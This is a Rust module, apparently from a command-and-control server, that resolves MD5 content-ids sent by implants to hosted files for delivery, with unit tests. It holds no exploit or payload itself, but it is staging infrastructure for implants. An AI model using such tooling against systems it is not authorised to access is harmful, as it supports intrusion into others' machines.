//! Hosted-file resolution for the file delivery endpoint.
//!
//! An implant names a file by a content-id: the MD5 hex of the file's path,
//! its basename, or its raw bytes. Resolution prefers the persistent hash
//! mapping, falls back to scanning the uploads directory (feeding any hit
//! back into the mapping), and finally accepts the legacy single-shot
//! hosting slot when the id hashes the slot's path.

use std::path::{Path, PathBuf};

use md5::{Digest, Md5};
use tracing::debug;

use crate::database::Database;

/// MD5 hex digest, the protocol's content-id function.
#[must_use]
pub fn md5_hex(data: &[u8]) -> String {
    hex::encode(Md5::digest(data))
}

/// Which resolution path produced the hit. Only the legacy slot branch
/// clears itself after a transfer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResolvedVia {
    Mapping,
    Scan,
    LegacySlot,
}

#[derive(Debug, Clone)]
pub struct ResolvedFile {
    pub filename: String,
    pub path: PathBuf,
    pub via: ResolvedVia,
}

/// Resolve an implant-supplied file id to a concrete file.
pub async fn resolve_file_id(
    db: &Database,
    uploads_dir: &Path,
    file_id: &str,
    hosting_file: Option<&Path>,
) -> Option<ResolvedFile> {
    match db.file_info_by_hash(file_id).await {
        Ok(Some((filename, path))) => {
            let path = PathBuf::from(path);
            if path.is_file() {
                return Some(ResolvedFile {
                    filename,
                    path,
                    via: ResolvedVia::Mapping,
                });
            }
            debug!(path = %path.display(), "mapped file no longer on disk, rescanning");
        }
        Ok(None) => {}
        Err(error) => debug!(%error, "file hash lookup failed"),
    }

    let dir = uploads_dir.to_path_buf();
    let wanted = file_id.to_string();
    let scanned = tokio::task::spawn_blocking(move || scan_uploads(&dir, &wanted))
        .await
        .ok()
        .flatten();
    if let Some((filename, path)) = scanned {
        if let Err(error) = db
            .store_file_hash_mapping(file_id, &filename, &path.to_string_lossy())
            .await
        {
            debug!(%error, "could not persist file hash mapping");
        }
        return Some(ResolvedFile {
            filename,
            path,
            via: ResolvedVia::Scan,
        });
    }

    if let Some(hosted) = hosting_file
        && md5_hex(hosted.to_string_lossy().as_bytes()) == file_id
    {
        let filename = hosted
            .file_name()
            .map(|name| name.to_string_lossy().into_owned())
            .unwrap_or_else(|| hosted.to_string_lossy().into_owned());
        return Some(ResolvedFile {
            filename,
            path: hosted.to_path_buf(),
            via: ResolvedVia::LegacySlot,
        });
    }

    None
}

fn scan_uploads(dir: &Path, file_id: &str) -> Option<(String, PathBuf)> {
    if !dir.is_dir() {
        debug!(dir = %dir.display(), "uploads directory does not exist");
        return None;
    }

    let mut stack = vec![dir.to_path_buf()];
    while let Some(current) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&current) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let Some(name) = path.file_name().map(|n| n.to_string_lossy().into_owned()) else {
                continue;
            };

            let matched = md5_hex(path.to_string_lossy().as_bytes()) == file_id
                || md5_hex(name.as_bytes()) == file_id
                || std::fs::read(&path)
                    .map(|bytes| md5_hex(&bytes) == file_id)
                    .unwrap_or(false);
            if matched {
                return Some((name, path));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn uploads_with_file(name: &str, contents: &[u8]) -> (TempDir, PathBuf) {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join(name);
        std::fs::write(&path, contents).unwrap();
        (dir, path)
    }

    #[test]
    fn test_md5_hex_matches_known_digest() {
        // md5("abc")
        assert_eq!(md5_hex(b"abc"), "900150983cd24fb0d6963f7d28e17f72");
    }

    #[tokio::test]
    async fn test_resolves_by_content_hash() {
        let (dir, path) = uploads_with_file("report.txt", b"quarterly numbers");
        let db = Database::disabled();

        let resolved = resolve_file_id(&db, dir.path(), &md5_hex(b"quarterly numbers"), None)
            .await
            .unwrap();
        assert_eq!(resolved.filename, "report.txt");
        assert_eq!(resolved.path, path);
        assert_eq!(resolved.via, ResolvedVia::Scan);
    }

    #[tokio::test]
    async fn test_resolves_by_name_hash() {
        let (dir, _path) = uploads_with_file("tool.exe", b"MZ\x90\x00");
        let db = Database::disabled();

        let resolved = resolve_file_id(&db, dir.path(), &md5_hex(b"tool.exe"), None)
            .await
            .unwrap();
        assert_eq!(resolved.filename, "tool.exe");
    }

    #[tokio::test]
    async fn test_resolves_by_path_hash() {
        let (dir, path) = uploads_with_file("loader.bin", b"\x00\x01\x02");
        let db = Database::disabled();

        let id = md5_hex(path.to_string_lossy().as_bytes());
        let resolved = resolve_file_id(&db, dir.path(), &id, None).await.unwrap();
        assert_eq!(resolved.path, path);
    }

    #[tokio::test]
    async fn test_scans_nested_directories() {
        let dir = TempDir::new().unwrap();
        let nested = dir.path().join("staging").join("batch1");
        std::fs::create_dir_all(&nested).unwrap();
        std::fs::write(nested.join("inner.txt"), b"nested payload").unwrap();
        let db = Database::disabled();

        let resolved = resolve_file_id(&db, dir.path(), &md5_hex(b"nested payload"), None)
            .await
            .unwrap();
        assert_eq!(resolved.filename, "inner.txt");
    }

    #[tokio::test]
    async fn test_legacy_slot_fallback() {
        let (_dir, path) = uploads_with_file("hosted.bin", b"slot contents");
        let db = Database::disabled();
        let empty = TempDir::new().unwrap();

        let id = md5_hex(path.to_string_lossy().as_bytes());
        let resolved = resolve_file_id(&db, empty.path(), &id, Some(&path))
            .await
            .unwrap();
        assert_eq!(resolved.via, ResolvedVia::LegacySlot);
        assert_eq!(resolved.filename, "hosted.bin");
    }

    #[tokio::test]
    async fn test_unknown_id_resolves_to_none() {
        let (dir, _path) = uploads_with_file("a.txt", b"abc");
        let db = Database::disabled();

        let resolved = resolve_file_id(&db, dir.path(), "ffffffffffffffffffffffffffffffff", None)
            .await;
        assert!(resolved.is_none());
    }

    #[tokio::test]
    async fn test_missing_uploads_dir_is_not_fatal() {
        let db = Database::disabled();
        let resolved = resolve_file_id(
            &db,
            Path::new("/nonexistent/uploads"),
            &md5_hex(b"anything"),
            None,
        )
        .await;
        assert!(resolved.is_none());
    }
}
